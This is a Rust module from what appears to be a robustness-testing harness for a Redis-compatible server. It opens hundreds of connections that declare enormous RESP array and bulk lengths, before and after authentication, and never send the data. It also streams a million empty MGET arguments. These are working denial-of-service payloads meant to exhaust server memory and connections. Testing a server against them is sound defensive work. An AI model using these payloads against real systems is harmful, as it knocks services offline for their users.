//! Lengths that are declared and never delivered.

use std::collections::VecDeque;
use std::time::Duration;

use anyhow::Result;

use super::super::{Ongoing, Target};
use super::write_some;
use crate::client::{Client, encoded};

/// So many of the connections are kept open at a time.
const OPEN_AT_ONCE: usize = 300;
/// A new one so often.
const INTERVAL: Duration = Duration::from_millis(2);

/// What a stranger declares.
const BEFORE_AUTH: [&[u8]; 6] = [
    b"*1000000000\r\n",
    b"*2\r\n$2000000000\r\n",
    b"*2147483647\r\n$1\r\n",
    b"*10\r\n$16384\r\nhalf",
    b"*2\r\n$4\r\nAUTH\r\n$16384\r\n",
    b"*9223372036854775807\r\n",
];
/// What a member declares. The third to fifth are within the limits: 300 connections that
/// declared 8 MiB each would be 2.4 GiB, had the server believed them.
const AFTER_AUTH: [&[u8]; 6] = [
    b"*1000000000\r\n",
    b"*2\r\n$2000000000\r\n",
    b"*1048576\r\n$4\r\nMSET\r\n",
    b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$8388608\r\nnot that much",
    b"*2\r\n$4\r\nECHO\r\n$8388608\r\n",
    b"*3\r\n$3\r\nSET\r\n$65536\r\nhalf a key",
];

fn declare(target: &Target, declarations: &'static [&'static [u8]], login: bool) -> Ongoing {
    let mut ongoing = Ongoing::default();
    let target = target.clone();
    ongoing.spawn(move |part| {
        let mut open: VecDeque<Client> = VecDeque::new();
        let mut declarations = declarations.iter().cycle();
        while part.goes_on() {
            if open.len() == OPEN_AT_ONCE {
                open.pop_front();
            }
            let mut client = target.stranger()?;
            if login {
                client.send_raw(&encoded(&["AUTH", target.password]))?;
            }
            if let Some(declaration) = declarations.next() {
                client.send_raw(declaration)?;
            }
            open.push_back(client);
            part.paced_act(INTERVAL);
        }
        Ok(())
    });
    ongoing
}

/// Gigabytes declared by strangers.
///
/// # Errors
/// None of its own; the signature is that of all attacks.
pub fn declared_gigabytes_before_auth(target: &Target) -> Result<Ongoing> {
    Ok(declare(target, &BEFORE_AUTH, false))
}

/// Gigabytes declared by members; beside it one that delivers a million empty arguments.
///
/// # Errors
/// None of its own.
pub fn declared_gigabytes_after_auth(target: &Target) -> Result<Ongoing> {
    let mut ongoing = declare(target, &AFTER_AUTH, true);
    let target = target.clone();
    ongoing.spawn(move |part| {
        while part.goes_on() {
            let mut client = target.member()?;
            client.send_raw(b"*1048576\r\n$4\r\nMGET\r\n")?;
            client.stream().set_nonblocking(true)?;
            let piece = b"$0\r\n\r\n".repeat(1000);
            for _ in 0..1000 {
                if !part.goes_on() || write_some(client.stream(), &piece)?.is_none() {
                    break;
                }
                part.paced_act(INTERVAL);
            }
        }
        Ok(())
    });
    Ok(ongoing)
}
